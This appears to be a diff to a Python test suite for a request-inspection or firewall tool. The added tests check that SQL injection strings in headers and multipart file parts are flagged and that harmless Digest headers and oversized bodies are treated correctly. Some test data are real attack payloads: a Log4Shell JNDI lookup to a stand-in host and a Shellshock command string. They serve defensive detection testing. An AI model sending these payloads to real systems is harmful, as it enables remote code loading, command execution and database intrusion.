@@ -483,6 +483,19 @@ def test_in_a_piece_of_a_text(attack: str) -> None:
     assert said(post(json.dumps({"query": f"query {{ user(id: {json.dumps(attack)}) {{ name }} }}"}))) != []
 
 
+def test_a_header_that_calls_itself_a_digest() -> None:
+    assert said(request("/", "", (b"x-request-id", b"digest' or 1=1--"))) != []
+    honest = b'Digest username="o\'brien", realm="a", nonce="b", uri="/", response="c"'
+    assert said(request("/", "", (b"authorization", honest))) == []
+
+
+def test_a_file_without_a_name_is_inspected_and_counted() -> None:
+    """Some take it for a field."""
+    field = '--X\r\nContent-Disposition: form-data; name="a"; filename=""\r\n\r\n{}\r\n--X--\r\n'
+    assert said(post(field.format(SQL), "multipart/form-data; boundary=X")) != []
+    assert said(post(field.format("a" * 300_000), "multipart/form-data; boundary=X")) == ["size body:"]
+
+
 @pytest.mark.parametrize("name", ["accept", "x-request-id", "sec-ch-ua", "connection"])
 def test_in_a_header_nobody_reads(name: str) -> None:
     for attack in ("${jndi:ldap://evil.example/a}", "() { :;}; /bin/id"):
